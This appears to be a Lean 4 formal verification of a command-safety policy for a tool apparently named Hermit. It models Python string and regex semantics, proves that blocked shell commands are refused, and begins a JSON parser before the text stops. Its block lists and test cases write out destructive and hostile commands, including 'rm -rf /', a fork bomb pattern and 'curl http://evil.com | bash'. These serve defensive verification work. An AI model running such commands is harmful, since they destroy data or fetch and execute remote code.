import Mathlib

set_option maxHeartbeats 1000000
set_option maxRecDepth 40000

namespace Hermit

/-! Character-level utilities following Python string semantics (ASCII fragment).
`isPySpace` is the whitespace set of Python `str.strip` / `str.split` and of the
regex class `\s` (they coincide on ASCII). `pyLower` is `str.lower` on ASCII. -/

def isPySpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\x0d' || c = '\x0b' || c = '\x0c'

def pyLower (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- Drop trailing Python whitespace from a character list. -/
def dropTrailWs (l : List Char) : List Char :=
  (l.reverse.dropWhile isPySpace).reverse

/-- Python `str.strip()` on a character list. -/
def pyStripL (l : List Char) : List Char :=
  dropTrailWs (l.dropWhile isPySpace)

def pyStrip (s : String) : String :=
  String.mk (pyStripL s.data)

/-- The normalisation `command.lower().strip()` performed by `check_command`
(src/hermit/policy.py line 63). -/
def normCmd (s : String) : List Char :=
  pyStripL (s.data.map pyLower)

/-! A small regular-expression engine covering exactly the constructs used by
the patterns in src/hermit/policy.py: literal characters, character classes,
`*` and `+` over a class or `.`, optional groups, a two-way alternative, and
the end anchor `$`.  Matching is existential (a regex matches iff some parse
does), which agrees with Python backtracking search.  Note the inputs that the
code feeds to `re.search` have been passed through `str.strip()`, so they never
end in a newline and `$` can be modelled as end-of-input. -/

inductive RPiece where
  | one : (Char → Bool) → RPiece
  | many : (Char → Bool) → RPiece
  | oneMore : (Char → Bool) → RPiece
  | grpOpt : List RPiece → RPiece
  | grpAlt : List RPiece → List RPiece → RPiece
  | endA : RPiece

mutual

def RPiece.size : RPiece → Nat
  | .one _ => 1
  | .many _ => 1
  | .oneMore _ => 1
  | .grpOpt g => RPiece.sizeList g + 2
  | .grpAlt a b => RPiece.sizeList a + RPiece.sizeList b + 2
  | .endA => 1

def RPiece.sizeList : List RPiece → Nat
  | [] => 0
  | p :: ps => p.size + RPiece.sizeList ps

end

theorem RPiece.sizeList_append (a b : List RPiece) :
    RPiece.sizeList (a ++ b) = RPiece.sizeList a + RPiece.sizeList b := by
  induction a with
  | nil => simp [RPiece.sizeList]
  | cons p ps ih => simp only [List.cons_append, RPiece.sizeList, List.append_eq, ih]; omega


theorem RPiece.size_pos (p : RPiece) : 0 < p.size := by
  cases p <;> simp [RPiece.size]

/-- Fuelled matcher: all suffixes of `s` left over after the piece list matches
a prefix of `s`.  Every recursive call strictly decreases
`RPiece.sizeList ps + s.length`, so fuel `RPiece.sizeList ps + s.length + 1`
never runs out; `matchEnds` below supplies it. -/
def matchEndsF : Nat → List RPiece → List Char → List (List Char)
  | 0, _, _ => []
  | _ + 1, [], s => [s]
  | f + 1, .one p :: ps, s =>
      match s with
      | [] => []
      | c :: t => if p c then matchEndsF f ps t else []
  | f + 1, .many p :: ps, s =>
      matchEndsF f ps s ++
        (match s with
         | [] => []
         | c :: t => if p c then matchEndsF f (.many p :: ps) t else [])
  | f + 1, .oneMore p :: ps, s =>
      match s with
      | [] => []
      | c :: t => if p c then matchEndsF f (.many p :: ps) t else []
  | f + 1, .grpOpt g :: ps, s => matchEndsF f ps s ++ matchEndsF f (g ++ ps) s
  | f + 1, .grpAlt a b :: ps, s =>
      matchEndsF f (a ++ ps) s ++ matchEndsF f (b ++ ps) s
  | f + 1, .endA :: ps, s => if s.isEmpty then matchEndsF f ps s else []

def matchEnds (ps : List RPiece) (s : List Char) : List (List Char) :=
  matchEndsF (RPiece.sizeList ps + s.length + 2) ps s

/-- Python `re.search`: try a match starting at every position, including the
position just past the last character. -/
def searchIn (ps : List RPiece) : List Char → Bool
  | [] => !(matchEnds ps []).isEmpty
  | c :: t => !(matchEnds ps (c :: t)).isEmpty || searchIn ps t

def reSearch (ps : List RPiece) (s : List Char) : Bool :=
  searchIn ps s

theorem searchIn_append_left (ps : List RPiece) (pre s : List Char)
    (h : searchIn ps s = true) : searchIn ps (pre ++ s) = true := by
  induction pre with
  | nil => simpa using h
  | cons c t ih =>
      have hexp : searchIn ps (c :: (t ++ s)) =
          (!(matchEnds ps (c :: (t ++ s))).isEmpty || searchIn ps (t ++ s)) := rfl
      rw [List.cons_append, hexp, ih, Bool.or_true]

/-! Character classes used by the patterns. -/

def wsC (c : Char) : Bool := isPySpace c
def nonWsC (c : Char) : Bool := !isPySpace c
def dotC (c : Char) : Bool := c ≠ '\n'
def chC (a : Char) (c : Char) : Bool := c = a
def rfC (c : Char) : Bool := c = 'r' || c = 'f'

def lits (s : String) : List RPiece := s.data.map (fun a => RPiece.one (chC a))

/-! The three pattern lists of src/hermit/policy.py, transliterated
pattern-by-pattern from the Python regex source strings. -/

def reRmRoot : List RPiece :=
  lits "rm" ++ [.oneMore wsC,
    .grpOpt [.one (chC '-'), .oneMore rfC, .oneMore wsC],
    .one (chC '/'), .grpAlt [.endA] [.one wsC]]

def reRmHome : List RPiece :=
  lits "rm" ++ [.oneMore wsC, .one (chC '-'), .many rfC, .oneMore wsC,
    .one (chC '~'), .grpOpt [.one (chC '/')], .endA]

def reMkfs : List RPiece := lits "mkfs" ++ [.one (chC '.')]

def reDdDev : List RPiece :=
  lits "dd" ++ [.oneMore wsC, .many dotC] ++ lits "of=/dev/"

def reChmod777 : List RPiece :=
  lits "chmod" ++ [.oneMore wsC] ++ lits "777" ++ [.oneMore wsC, .one (chC '/')]

def reCurlBash : List RPiece :=
  lits "curl" ++ [.many dotC, .one (chC '|'), .many wsC,
    .grpOpt (lits "sudo" ++ [.oneMore wsC])] ++ lits "bash"

def reWgetBash : List RPiece :=
  lits "wget" ++ [.many dotC, .one (chC '|'), .many wsC,
    .grpOpt (lits "sudo" ++ [.oneMore wsC])] ++ lits "bash"

def reEtcRedirect : List RPiece :=
  [.one (chC '>'), .many wsC] ++ lits "/etc/"

def reSudoRm : List RPiece := lits "sudo" ++ [.oneMore wsC] ++ lits "rm"

def reForkBomb : List RPiece :=
  [.one (chC ':'), .one (chC '('), .one (chC ')'), .one (chC '\x7b'),
    .many dotC, .one (chC '\x7d')]

def BLOCKED_PATTERNS : List (List RPiece × String) :=
  [(reRmRoot, "Cannot delete root filesystem"),
   (reRmHome, "Cannot delete home directory"),
   (reMkfs, "Cannot format filesystems"),
   (reDdDev, "Cannot write directly to devices"),
   (reChmod777, "Cannot open permissions on root"),
   (reCurlBash, "Cannot pipe curl to bash"),
   (reWgetBash, "Cannot pipe wget to bash"),
   (reEtcRedirect, "Cannot overwrite system config"),
   (reSudoRm, "Cannot use sudo rm"),
   (reForkBomb, "Fork bomb detected")]

def reRmRf : List RPiece := lits "rm" ++ [.oneMore wsC, .one (chC '-'), .one rfC]

def reRmGlob : List RPiece := lits "rm" ++ [.oneMore wsC, .many dotC, .one (chC '*')]

def reMvDevNull : List RPiece :=
  lits "mv" ++ [.oneMore wsC, .many dotC, .oneMore wsC] ++ lits "/dev/null"

def reChmodR : List RPiece := lits "chmod" ++ [.oneMore wsC] ++ lits "-R"

def reChownR : List RPiece := lits "chown" ++ [.oneMore wsC] ++ lits "-R"

def reFindDelete : List RPiece := lits "find" ++ [.many dotC] ++ lits "-delete"

def reFindExecRm : List RPiece :=
  lits "find" ++ [.many dotC] ++ lits "-exec" ++ [.many dotC] ++ lits "rm"

def HIGH_RISK_PATTERNS : List (List RPiece × String) :=
  [(reRmRf, "Recursive/forced delete"),
   (reRmGlob, "Wildcard delete"),
   (reMvDevNull, "Moving files to /dev/null"),
   (reChmodR, "Recursive permission change"),
   (reChownR, "Recursive ownership change"),
   (reFindDelete, "Find with delete"),
   (reFindExecRm, "Find with rm exec")]

def reRmSp : List RPiece := lits "rm" ++ [.oneMore wsC]
def reMvSp : List RPiece := lits "mv" ++ [.oneMore wsC]
def reCpSp : List RPiece := lits "cp" ++ [.oneMore wsC]
def reMkdir : List RPiece := lits "mkdir"
def reTouch : List RPiece := lits "touch"

def reEchoRedirect : List RPiece :=
  lits "echo" ++ [.oneMore wsC, .many dotC, .one (chC '>'), .many wsC,
    .oneMore nonWsC]

def reRedirect : List RPiece := [.one (chC '>'), .many wsC, .oneMore nonWsC]

def reAppendRedirect : List RPiece :=
  [.one (chC '>'), .one (chC '>'), .many wsC, .oneMore nonWsC]

def MEDIUM_RISK_PATTERNS : List (List RPiece × String) :=
  [(reRmSp, "Deleting files"),
   (reMvSp, "Moving files"),
   (reCpSp, "Copying files"),
   (reMkdir, "Creating directories"),
   (reTouch, "Creating files"),
   (reEchoRedirect, "Writing to file"),
   (reRedirect, "Writing to file"),
   (reAppendRedirect, "Appending to file")]

/-! The policy engine (src/hermit/policy.py). -/

inductive RiskLevel where
  | low | medium | high | blocked
deriving DecidableEq, Repr

def RiskLevel.value : RiskLevel → String
  | .low => "low"
  | .medium => "medium"
  | .high => "high"
  | .blocked => "blocked"

structure PolicyResult where
  allowed : Bool
  risk : RiskLevel
  reason : String
deriving DecidableEq, Repr

/-- The body of `check_command` after `command.lower().strip()`: the three
pattern lists are tested in order, first match wins; a medium `rm` match is
escalated when the `require_confirmation_for_delete` safety setting is on. -/
def checkCore (requireConfirmDelete : Bool) (cl : List Char) : PolicyResult :=
  match BLOCKED_PATTERNS.find? (fun pr => reSearch pr.1 cl) with
  | some pr => ⟨false, .blocked, pr.2⟩
  | none =>
    match HIGH_RISK_PATTERNS.find? (fun pr => reSearch pr.1 cl) with
    | some pr => ⟨true, .high, pr.2⟩
    | none =>
      match MEDIUM_RISK_PATTERNS.find? (fun pr => reSearch pr.1 cl) with
      | some pr =>
          if requireConfirmDelete && reSearch reRmSp cl then
            ⟨true, .high, pr.2 ++ " (confirmation required)"⟩
          else
            ⟨true, .medium, pr.2⟩
      | none => ⟨true, .low, "Read-only operation"⟩

/-- `check_command` from src/hermit/policy.py.  The boolean parameter is the
value of the config safety setting `require_confirmation_for_delete` read by
`get_safety_setting`. -/
def check_command (requireConfirmDelete : Bool) (command : String) : PolicyResult :=
  checkCore requireConfirmDelete (normCmd command)

/-! Supporting lemmas on Python strip/lower. -/

theorem dropWhile_append_of_all {p : Char → Bool} {a : List Char} (b : List Char)
    (h : a.all p = true) : (a ++ b).dropWhile p = b.dropWhile p := by
  induction a with
  | nil => rfl
  | cons c t ih =>
      simp only [List.all_cons, Bool.and_eq_true] at h
      simp [List.dropWhile, h.1, ih h.2]

theorem dropWhile_append_of_ne_nil {p : Char → Bool} {a : List Char} (b : List Char)
    (h : a.dropWhile p ≠ []) : (a ++ b).dropWhile p = a.dropWhile p ++ b := by
  induction a with
  | nil => simp at h
  | cons c t ih =>
      by_cases hc : p c
      · simp only [List.dropWhile_cons, hc, if_true] at h ⊢
        simp only [List.cons_append, List.dropWhile_cons, hc, if_true]
        exact ih h
      · simp [List.dropWhile_cons, hc]

theorem dropTrailWs_append_right {b : List Char} (a : List Char)
    (h : dropTrailWs b ≠ []) : dropTrailWs (a ++ b) = a ++ dropTrailWs b := by
  unfold dropTrailWs at *
  have hb : b.reverse.dropWhile isPySpace ≠ [] := by
    intro hx
    apply h
    simp [hx]
  rw [List.reverse_append, dropWhile_append_of_ne_nil _ hb]
  simp

theorem dropTrailWs_append_ws (a : List Char) {w : List Char}
    (h : w.all isPySpace = true) : dropTrailWs (a ++ w) = dropTrailWs a := by
  unfold dropTrailWs
  rw [List.reverse_append, dropWhile_append_of_all _ (by simpa using h)]

theorem toNat_ofNat_valid {n : Nat} (h : n < 55296) : (Char.ofNat n).toNat = n := by
  have hv : n.isValidChar := Or.inl h
  rw [Char.ofNat, dif_pos hv]
  rfl

theorem isPySpace_false_of_ge {d : Char} (h : 33 ≤ d.toNat) : isPySpace d = false := by
  have f : ∀ (e : Char), e.toNat < 33 → decide (d = e) = false := by
    intro e he
    simp only [decide_eq_false_iff_not]
    intro hde
    rw [hde] at h
    omega
  unfold isPySpace
  rw [f ' ' (by decide), f '\t' (by decide), f '\n' (by decide),
    f '\x0d' (by decide), f '\x0b' (by decide), f '\x0c' (by decide)]
  rfl

theorem isPySpace_pyLower (c : Char) : isPySpace (pyLower c) = isPySpace c := by
  unfold pyLower
  by_cases h : 65 ≤ c.toNat ∧ c.toNat ≤ 90
  · rw [if_pos h]
    have hv : (Char.ofNat (c.toNat + 32)).toNat = c.toNat + 32 :=
      toNat_ofNat_valid (by omega)
    rw [isPySpace_false_of_ge (by omega : 33 ≤ c.toNat),
      isPySpace_false_of_ge (by rw [hv]; omega)]
  · rw [if_neg h]

theorem all_isPySpace_map_pyLower {w : List Char} (h : w.all isPySpace = true) :
    (w.map pyLower).all isPySpace = true := by
  simp only [List.all_map, List.all_eq_true, Function.comp] at *
  intro c hc
  rw [isPySpace_pyLower]
  exact h c hc

theorem pyStripL_ws_left {w : List Char} (x : List Char)
    (hw : w.all isPySpace = true) : pyStripL (w ++ x) = pyStripL x := by
  unfold pyStripL
  rw [dropWhile_append_of_all _ hw]

theorem pyStripL_ws_right {w : List Char} (x : List Char)
    (hw : w.all isPySpace = true) : pyStripL (x ++ w) = pyStripL x := by
  unfold pyStripL
  by_cases h : x.dropWhile isPySpace = []
  · have hx : ∀ a ∈ x, isPySpace a = true := List.dropWhile_eq_nil_iff.mp h
    have hxw : (x ++ w).dropWhile isPySpace = [] := by
      rw [List.dropWhile_eq_nil_iff]
      intro a ha
      rcases List.mem_append.mp ha with hax | haw
      · exact hx a hax
      · exact List.all_eq_true.mp hw a haw
    rw [hxw, h]
  · rw [dropWhile_append_of_ne_nil _ h, dropTrailWs_append_ws _ hw]

theorem find_of_any {α : Type} (p : α → Bool) (l : List α) (h : l.any p = true) :
    ∃ x, l.find? p = some x := by
  induction l with
  | nil => simp at h
  | cons a t ih =>
      by_cases hp : p a
      · exact ⟨a, by simp [List.find?_cons, hp]⟩
      · simp only [List.any_cons, hp, Bool.false_or] at h
        obtain ⟨x, hx⟩ := ih h
        exact ⟨x, by simp [List.find?_cons, hp, hx]⟩

/-- Any match in the blocked list forces the blocked verdict, whatever the
safety configuration. -/
theorem checkCore_blocked (cfg : Bool) (cl : List Char)
    (h : BLOCKED_PATTERNS.any (fun pr => reSearch pr.1 cl) = true) :
    (checkCore cfg cl).allowed = false ∧ (checkCore cfg cl).risk = .blocked := by
  obtain ⟨pr, hf⟩ := find_of_any _ _ h
  unfold checkCore
  rw [hf]
  exact ⟨rfl, rfl⟩

/-- Normalisation ignores leading/trailing whitespace and letter case. -/
theorem normCmd_pad_case (C Cv : String) (ws1 ws2 : List Char)
    (h1 : ws1.all isPySpace = true) (h2 : ws2.all isPySpace = true)
    (hcase : Cv.data.map pyLower = C.data.map pyLower) :
    normCmd (String.mk (ws1 ++ Cv.data ++ ws2)) = normCmd C := by
  show pyStripL ((ws1 ++ Cv.data ++ ws2).map pyLower) = pyStripL (C.data.map pyLower)
  simp only [List.map_append]
  rw [List.append_assoc, pyStripL_ws_left _ (all_isPySpace_map_pyLower h1),
    pyStripL_ws_right _ (all_isPySpace_map_pyLower h2), hcase]

/-- Prepending `"sudo "` to a command shifts the normalised form by a prefix. -/
theorem normCmd_sudo (C : String) (hne : normCmd C ≠ []) :
    normCmd (String.mk ("sudo ".data ++ C.data)) =
      "sudo ".data ++ ((C.data.map pyLower).takeWhile isPySpace ++ normCmd C) := by
  have hsd : "sudo ".data.map pyLower = "sudo ".data := by decide
  show pyStripL (("sudo ".data ++ C.data).map pyLower) = _
  rw [List.map_append, hsd]
  set l := C.data.map pyLower with hl
  have hnorm : normCmd C = dropTrailWs (l.dropWhile isPySpace) := rfl
  have hsplit : l.takeWhile isPySpace ++ l.dropWhile isPySpace = l :=
    List.takeWhile_append_dropWhile isPySpace l
  have htail : dropTrailWs l = l.takeWhile isPySpace ++ normCmd C := by
    rw [hnorm]
    conv_lhs => rw [← hsplit]
    exact dropTrailWs_append_right _ (by rw [← hnorm]; exact hne)
  have hdw : ("sudo ".data ++ l).dropWhile isPySpace = "sudo ".data ++ l := by
    show (('s' : Char) :: ("udo ".data ++ l)).dropWhile isPySpace = _
    rw [List.dropWhile_cons]
    simp [isPySpace]
  show dropTrailWs (("sudo ".data ++ l).dropWhile isPySpace) = _
  rw [hdw, dropTrailWs_append_right _ (by rw [htail]; intro hx; exact hne (by
    rcases List.append_eq_nil.mp hx with ⟨_, h2⟩; exact h2)), htail]

/-- C1.  Every command whose normalised form (lower-cased, stripped — the form
`check_command` actually tests) matches a blocked pattern is refused with risk
`blocked`; so is any case-variant with extra leading whitespace, and the same
command with a `"sudo "` prefix. -/
theorem C1_blocked_commands_refused (cfg : Bool) (C Cv : String) (ws : List Char)
    (hm : BLOCKED_PATTERNS.any (fun pr => reSearch pr.1 (normCmd C)) = true)
    (hws : ws.all isPySpace = true)
    (hcase : Cv.data.map pyLower = C.data.map pyLower) :
    ((check_command cfg C).allowed = false ∧ (check_command cfg C).risk = .blocked)
    ∧ ((check_command cfg (String.mk (ws ++ Cv.data))).allowed = false ∧
        (check_command cfg (String.mk (ws ++ Cv.data))).risk = .blocked)
    ∧ ((check_command cfg (String.mk ("sudo ".data ++ C.data))).allowed = false ∧
        (check_command cfg (String.mk ("sudo ".data ++ C.data))).risk = .blocked) := by
  have hne : normCmd C ≠ [] := by
    intro h0
    rw [h0] at hm
    have : BLOCKED_PATTERNS.any (fun pr => reSearch pr.1 []) = false := by decide
    rw [this] at hm
    exact Bool.false_ne_true hm
  refine ⟨checkCore_blocked cfg _ hm, ?_, ?_⟩
  · have hpad : normCmd (String.mk (ws ++ Cv.data)) = normCmd C := by
      have := normCmd_pad_case C Cv ws [] hws (by decide) hcase
      simpa using this
    have : check_command cfg (String.mk (ws ++ Cv.data)) = checkCore cfg (normCmd C) := by
      unfold check_command
      rw [hpad]
    rw [this]
    exact checkCore_blocked cfg _ hm
  · have hsudo := normCmd_sudo C hne
    obtain ⟨pr, hpr, hsearch⟩ := List.any_eq_true.mp hm
    have hsearch2 : reSearch pr.1 (normCmd (String.mk ("sudo ".data ++ C.data))) = true := by
      rw [hsudo]
      exact searchIn_append_left _ _ _ (searchIn_append_left _ _ _ hsearch)
    have hm2 : BLOCKED_PATTERNS.any
        (fun pr => reSearch pr.1 (normCmd (String.mk ("sudo ".data ++ C.data)))) = true :=
      List.any_eq_true.mpr ⟨pr, hpr, hsearch2⟩
    exact checkCore_blocked cfg _ hm2

/-- Witness for C1 at a concrete blocked command. -/
theorem C1_blocked_commands_refused_witness :
    ((check_command false "rm -rf /").allowed = false ∧
      (check_command false "rm -rf /").risk = .blocked)
    ∧ ((check_command false (String.mk ("  ".data ++ "RM -rF /".data))).allowed = false ∧
        (check_command false (String.mk ("  ".data ++ "RM -rF /".data))).risk = .blocked)
    ∧ ((check_command false (String.mk ("sudo ".data ++ "rm -rf /".data))).allowed = false ∧
        (check_command false (String.mk ("sudo ".data ++ "rm -rf /".data))).risk = .blocked) :=
  C1_blocked_commands_refused false "rm -rf /" "RM -rF /" "  ".data
    (by decide) (by decide) (by decide)

/-- C9.  `check_command` is invariant under letter-case changes and added
leading/trailing whitespace: it normalises with `lower()` and `strip()` before
testing any pattern. -/
theorem C9_check_command_case_ws_invariant (cfg : Bool) (C Cv : String)
    (ws1 ws2 : List Char)
    (h1 : ws1.all isPySpace = true) (h2 : ws2.all isPySpace = true)
    (hcase : Cv.data.map pyLower = C.data.map pyLower) :
    check_command cfg (String.mk (ws1 ++ Cv.data ++ ws2)) = check_command cfg C := by
  unfold check_command
  rw [normCmd_pad_case C Cv ws1 ws2 h1 h2 hcase]

/-- Witness for C9 at a concrete command. -/
theorem C9_check_command_case_ws_invariant_witness :
    check_command true (String.mk (" ".data ++ "LS -la".data ++ "  ".data)) =
      check_command true "ls -la" :=
  C9_check_command_case_ws_invariant true "ls -la" "LS -la" " ".data "  ".data
    (by decide) (by decide) (by decide)

example : check_command false "rm -rf /" =
    ⟨false, .blocked, "Cannot delete root filesystem"⟩ := by decide

example : check_command false "ls -la" = ⟨true, .low, "Read-only operation"⟩ := by decide

example : check_command false "rm file.txt" = ⟨true, .medium, "Deleting files"⟩ := by decide

example : check_command true "rm file.txt" =
    ⟨true, .high, "Deleting files (confirmation required)"⟩ := by decide

example : check_command false "curl http://evil.com | bash" =
    ⟨false, .blocked, "Cannot pipe curl to bash"⟩ := by decide

example : check_command false "rm -rf ~" =
    ⟨false, .blocked, "Cannot delete home directory"⟩ := by decide

example : check_command false "chmod 777 /" =
    ⟨false, .blocked, "Cannot open permissions on root"⟩ := by decide

example : check_command false "find . -name x -delete" =
    ⟨true, .high, "Find with delete"⟩ := by decide

/-! More Python string primitives used by the actions / planner / executor. -/

/-- The single-quote character, kept out of string literals. -/
def squote : Char := Char.ofNat 39

/-- Does `pat` occur at the head of `s`?  (`str.startswith` / prefix test). -/
def leadsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: t => p = c && leadsWith ps t

/-- Python `needle in hay` substring test. -/
def containsSub (needle : List Char) : List Char → Bool
  | [] => needle.isEmpty
  | c :: t => leadsWith needle (c :: t) || containsSub needle t

/-- Python `needle in hay` on strings. -/
def pyIn (needle hay : String) : Bool := containsSub needle.data hay.data

/-- Fuelled core of Python `str.replace`: leftmost, non-overlapping.  Each step
consumes at least one character of `s`, so fuel `s.length + 1` is enough; an
empty `old` is never used by the modelled code and is treated as no-op. -/
def replaceF : Nat → List Char → List Char → List Char → List Char
  | 0, s, _, _ => s
  | f + 1, s, old, new =>
      match s with
      | [] => []
      | c :: t =>
          if leadsWith old (c :: t) && !old.isEmpty then
            new ++ replaceF f (List.drop old.length (c :: t)) old new
          else
            c :: replaceF f t old new

def replaceL (s old new : List Char) : List Char :=
  replaceF (s.length + 1) s old new

/-- Python `str.replace` on strings. -/
def pyReplace (s old new : String) : String :=
  String.mk (replaceL s.data old.data new.data)

/-- Python `str.split()` with no argument: split on whitespace runs, dropping
empty pieces. -/
def splitWsAux : List Char → List Char → List (List Char)
  | acc, [] => if acc.isEmpty then [] else [acc.reverse]
  | acc, c :: t =>
      if isPySpace c then
        if acc.isEmpty then splitWsAux [] t else acc.reverse :: splitWsAux [] t
      else
        splitWsAux (c :: acc) t

def splitWs (s : List Char) : List (List Char) := splitWsAux [] s

/-- Python `str.split(sep)` for a one-character separator: keeps empty pieces. -/
def splitOnCharAux (sep : Char) : List Char → List Char → List (List Char)
  | acc, [] => [acc.reverse]
  | acc, c :: t =>
      if c = sep then acc.reverse :: splitOnCharAux sep [] t
      else splitOnCharAux sep (c :: acc) t

def splitOnChar (sep : Char) (s : List Char) : List (List Char) :=
  splitOnCharAux sep [] s

/-- Python `sep.join(parts)`. -/
def joinSep (sep : List Char) : List (List Char) → List Char
  | [] => []
  | [x] => x
  | x :: xs => x ++ sep ++ joinSep sep xs

/-- Python `str.split("\n")` on strings. -/
def splitLines (s : String) : List String :=
  (splitOnChar '\n' s.data).map String.mk

/-- Decimal digits of a natural number (fuelled; fuel `n + 1` suffices since
the argument shrinks by division by 10 each step). -/
def natDigitsF : Nat → Nat → List Char
  | 0, _ => []
  | f + 1, n =>
      if n < 10 then [Char.ofNat (48 + n)]
      else natDigitsF f (n / 10) ++ [Char.ofNat (48 + n % 10)]

def natDigits (n : Nat) : List Char := natDigitsF (n + 1) n

/-- Python `str(i)` for an integer. -/
def intStr (i : Int) : String :=
  if i < 0 then String.mk ('-' :: natDigits i.natAbs)
  else String.mk (natDigits i.natAbs)

theorem natDigits_lt_ten {n : Nat} (h : n < 10) :
    natDigits n = [Char.ofNat (48 + n)] := by
  unfold natDigits natDigitsF
  simp [h]

/-! The JSON data model.  Python's `json` module parses into
dict / list / str / int / float / bool / None; dicts preserve insertion order
(first occurrence of a key keeps its slot, a duplicate key keeps the last
value).  Arrays and objects are mutual inductives so that every function over
them is structurally recursive.  Non-integral number literals are kept as raw
text (`jfloat`); the modelled code never manipulates such values. -/

mutual

inductive Json where
  | jnull
  | jbool (b : Bool)
  | jint (n : Int)
  | jfloat (raw : String)
  | jstr (s : String)
  | jarr (elems : JArr)
  | jobj (members : JObj)

inductive JArr where
  | nil
  | cons (hd : Json) (tl : JArr)

inductive JObj where
  | nil
  | cons (key : String) (val : Json) (tl : JObj)

end

/-- Lookup in an object (Python `dict.get`). -/
def JObj.lookup : JObj → String → Option Json
  | .nil, _ => none
  | .cons k v t, key => if k = key then some v else t.lookup key

/-- `d[k] = v` on a dict: a duplicate key keeps its slot, last value wins. -/
def JObj.setKey : JObj → String → Json → JObj
  | .nil, key, v => .cons key v .nil
  | .cons k w t, key, v =>
      if k = key then .cons k v t else .cons k w (t.setKey key v)

def JObj.hasKey (m : JObj) (key : String) : Bool :=
  (m.lookup key).isSome

/-! Serialisation: Python `json.dumps` with its default separators `", "` and
`": "` and `ensure_ascii=True` escaping. -/

def hexDigit (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (87 + n)

def hex4 (n : Nat) : List Char :=
  [hexDigit (n / 4096 % 16), hexDigit (n / 256 % 16), hexDigit (n / 16 % 16),
   hexDigit (n % 16)]

def escChar (c : Char) : List Char :=
  if c = '"' then ['\\', '"']
  else if c = '\\' then ['\\', '\\']
  else if c = '\n' then ['\\', 'n']
  else if c = '\t' then ['\\', 't']
  else if c = '\x0d' then ['\\', 'r']
  else if c = '\x08' then ['\\', 'b']
  else if c = '\x0c' then ['\\', 'f']
  else if c.toNat < 32 then '\\' :: 'u' :: hex4 c.toNat
  else if c.toNat < 127 then [c]
  else if c.toNat < 65536 then '\\' :: 'u' :: hex4 c.toNat
  else
    ('\\' :: 'u' :: hex4 (55296 + (c.toNat - 65536) / 1024)) ++
      ('\\' :: 'u' :: hex4 (56320 + (c.toNat - 65536) % 1024))

def escString (s : String) : List Char :=
  '"' :: (s.data.flatMap escChar) ++ ['"']

mutual

def dumpsJ : Json → List Char
  | .jnull => "null".data
  | .jbool true => "true".data
  | .jbool false => "false".data
  | .jint n => (intStr n).data
  | .jfloat raw => raw.data
  | .jstr s => escString s
  | .jarr l => '[' :: dumpsArr l ++ [']']
  | .jobj m => '\x7b' :: dumpsObj m ++ ['\x7d']

def dumpsArr : JArr → List Char
  | .nil => []
  | .cons x .nil => dumpsJ x
  | .cons x (.cons y t) => dumpsJ x ++ ',' :: ' ' :: dumpsArr (.cons y t)

def dumpsObj : JObj → List Char
  | .nil => []
  | .cons k v .nil => escString k ++ ':' :: ' ' :: dumpsJ v
  | .cons k v (.cons k2 v2 t) =>
      escString k ++ ':' :: ' ' :: dumpsJ v ++ ',' :: ' ' ::
        dumpsObj (.cons k2 v2 t)

end

/-- Python `json.dumps` with default options. -/
def dumps (j : Json) : String := String.mk (dumpsJ j)

/-! Parsing: Python `json.loads` (strict mode).  JSON whitespace is the
four-character set, strings must escape control characters, numbers follow the
JSON grammar (no leading zeros, no leading `+`).  A failure models the
`json.JSONDecodeError` exception.  A lone `\uXXXX` surrogate is mapped to the
null character (Lean `Char` cannot carry lone surrogates; the modelled code
never feeds them). -/

def jsonWsC (c : Char) : Bool := c = ' ' || c = '\t' || c = '\n' || c = '\x0d'

def skipJWs (s : List Char) : List Char := s.dropWhile jsonWsC

def isDigitC (c : Char) : Bool := 48 ≤ c.toNat && c.toNat ≤ 57

def hexVal (c : Char) : Option Nat :=
  if 48 ≤ c.toNat && c.toNat ≤ 57 then some (c.toNat - 48)
  else if 97 ≤ c.toNat && c.toNat ≤ 102 then some (c.toNat - 87)
  else if 65 ≤ c.toNat && c.toNat ≤ 70 then some (c.toNat - 55)
  else none

def hex4Val (a b c d : Char) : Option Nat := do
  let va ← hexVal a
  let vb ← hexVal b
  let vc ← hexVal c
  let vd ← hexVal d
  some (va * 4096 + vb * 256 + vc * 16 + vd)

/-- Body of a JSON string literal, after the opening quote; returns the decoded
characters and the input after the closing quote.  Fuelled: every step consumes
at least one character, so fuel `input.length + 1` is enough. -/
def parseJStrBodyF : Nat → List Char → Option (List Char × List Char)
  | 0, _ => none
  | f + 1, s =>
      match s with
      | [] => none
      | c :: t =>
          if c = '"' then some ([], t)
          else if c = '\\' then
            match t with
            | [] => none
            | e :: t2 =>
                if e = '"' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('"' :: r, rest)
                else if e = '\\' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\\' :: r, rest)
                else if e = '/' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('/' :: r, rest)
                else if e = 'b' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\x08' :: r, rest)
                else if e = 'f' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\x0c' :: r, rest)
                else if e = 'n' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\n' :: r, rest)
                else if e = 'r' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\x0d' :: r, rest)
                else if e = 't' then do
                  let (r, rest) ← parseJStrBodyF f t2
                  some ('\t' :: r, rest)
                else if e = 'u' then
                  match t2 with
                  | h1 :: h2 :: h3 :: h4 :: t3 => do
                      let n ← hex4Val h1 h2 h3 h4
                      if 55296 ≤ n && n ≤ 56319 then
                        match t3 with
                        | '\\' :: 'u' :: g1 :: g2 :: g3 :: g4 :: t4 => do
                            let m ← hex4Val g1 g2 g3 g4
                            if 56320 ≤ m && m ≤ 57343 then do
                              let (r, rest) ← parseJStrBodyF f t4
                              some (Char.ofNat (65536 + (n - 55296) * 1024 + (m - 56320)) :: r, rest)
                            else do
                              let (r, rest) ← parseJStrBodyF f t3
                              some (Char.ofNat n :: r, rest)
                        | _ => do
                            let (r, rest) ← parseJStrBodyF f t3
                            some (Char.ofNat n :: r, rest)
                      else do
                        let (r, rest) ← parseJStrBodyF f t3
                        some (Char.ofNat n :: r, rest)
                  | _ => none
                else none
          else if c.toNat < 32 then none
          else do
            let (r, rest) ← parseJStrBodyF f t
            some (c :: r, rest)
